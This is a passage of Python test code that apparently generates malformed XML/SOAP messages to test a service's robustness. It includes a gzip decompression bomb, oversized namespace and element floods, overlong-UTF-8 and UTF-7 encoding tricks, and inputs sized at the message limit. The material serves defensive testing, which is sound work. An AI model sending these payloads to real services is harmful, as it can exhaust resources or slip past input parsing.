        "long namespace name": b'<a xmlns:u="urn:%s">%s</a>' % (b"u" * 100_000, b"<u:b/>" * 10_000),
        "500 bytes of namespace name": b'<a xmlns:u="urn:%s">%s</a>' % (b"u" * 500, b"<u:b/>" * 90_000),
        "relative namespace name": b'<a xmlns:u="relative"/>',
        "1 000 000 character references": b"<a>%s</a>" % (b"&#10;" * 1_000_000),
        "long name": b"<%s/>" % (b"a" * 60_000),
        "100 000 names": b"".join(b"<a%d/>" % i for i in range(90_000)),
    }.items():
        yield label, _in_first_value(message, filling)
    yield "only <", b"<" * MAX_MESSAGE_BYTES
    yield "only =", b"=" * MAX_MESSAGE_BYTES
    yield "only spaces", b" " * MAX_MESSAGE_BYTES
    yield "nothing", b""
    yield "zeros", bytes(1_000_000)
    yield "cut short", message[: len(message) // 2]
    yield "text after", message + b"evil"
    yield "twice", message + message


@_family(21)
def _encoding(scene: Scene) -> Iterator[Variant]:
    text = etree.tostring(etree.fromstring(scene.octets), encoding="unicode")
    for name in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-7", "cp037"):
        declared = f"<?xml version='1.0' encoding='{name.partition('-le')[0].partition('-be')[0]}'?>{text}"
        yield f"{name}, declared", declared.encode(name)
        yield f"{name}, not declared", text.encode(name)
        yield f"{name}, in Content-Type", text.encode(name), {"Content-Type": f"text/xml; charset={name}"}
    for name in ("utf-7", "utf-16", "iso-8859-1", "windows-1252", "x-evil", ""):
        yield f"UTF-8 declared as {name!r}", f"<?xml version='1.0' encoding='{name}'?>{text}".encode()
    yield "UTF-8 announced as ISO-8859-1", scene.octets, {"Content-Type": "text/xml; charset=ISO-8859-1"}
    yield "UTF-8 announced as UTF-7", scene.octets, {"Content-Type": 'text/xml; charset="utf-7"'}
    yield "XML 1.1", f"<?xml version='1.1'?>{text}".encode()
    yield "not UTF-8", scene.octets.replace(b"</SOAP-ENV:Body>", b"\xc0\x80</SOAP-ENV:Body>")
    yield "overlong <", b"\xc0\xbc" + scene.octets
    yield "surrogate", _in_first_value(text.encode(), b"\xed\xa0\x80")
    yield "zero byte", _in_first_value(text.encode(), b"\0")
    yield "two byte order marks", b"\xef\xbb\xbf" * 2 + text.encode()


@_family(22)
def _compression(scene: Scene) -> Iterator[Variant]:
    yield "gzip", gzip.compress(scene.octets), {"Content-Encoding": "gzip"}
    yield "gzip, not announced", gzip.compress(scene.octets)
    yield "gzip bomb", gzip.compress(bytes(100_000_000)), {"Content-Encoding": "gzip"}
    yield "deflate announced", scene.octets[:-1], {"Content-Encoding": "deflate"}


@_family(23)
def _size(scene: Scene) -> Iterator[Variant]:
    for label, size in (("10 MiB", MAX_MESSAGE_BYTES), ("one byte more", MAX_MESSAGE_BYTES + 1)):
        message = bytes(etree.tostring(etree.fromstring(scene.octets)))
        short = _in_first_value(message, b"")
        yield f"{label} of value", _in_first_value(message, b"a" * (size - len(short)))
        yield f"{label} of white space after", message[:-1] + b" " * (size - len(message)) + b"x"
        comment = b"<!--" + b" " * (size - len(message) - 7) + b"-->"
        yield f"{label} of comment in a value", _in_first_value(message, comment).ljust(size)[:size]
